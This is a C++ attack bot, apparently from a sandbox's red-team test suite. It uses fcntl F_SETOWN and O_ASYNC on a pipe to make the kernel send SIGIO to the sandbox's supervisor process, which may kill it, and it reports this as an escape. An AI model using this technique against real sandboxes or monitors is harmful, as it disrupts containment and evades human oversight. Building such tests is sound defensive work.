// Red-team bot (bots/attacks/README.md): makes the kernel deliver SIGIO to the supervisor.
#include <signal.h>

#include "attack.h"

int main() {
  rk::Request r = rk::read_request();
  int target = rk::sandbox_machinery_pid();
  if (!target) rk::failed("no other process to own the descriptor");
  int fds[2];
  if (pipe(fds) != 0) rk::failed("pipe: " + rk::errno_text());
  if (fcntl(fds[0], F_SETOWN, target) != 0) rk::failed("F_SETOWN: " + rk::errno_text());
  if (fcntl(fds[0], F_SETFL, O_ASYNC | O_NONBLOCK) != 0) rk::failed("O_ASYNC: " + rk::errno_text());
  if (write(fds[1], "x", 1) != 1) rk::failed("write: " + rk::errno_text());
  usleep(100000);
  if (kill(target, 0) != 0 && errno == ESRCH) rk::escaped(r, "SIGIO killed pid " + std::to_string(target));
  rk::escaped(r, "F_SETOWN to pid " + std::to_string(target) + " accepted (SIGIO sent)");
}
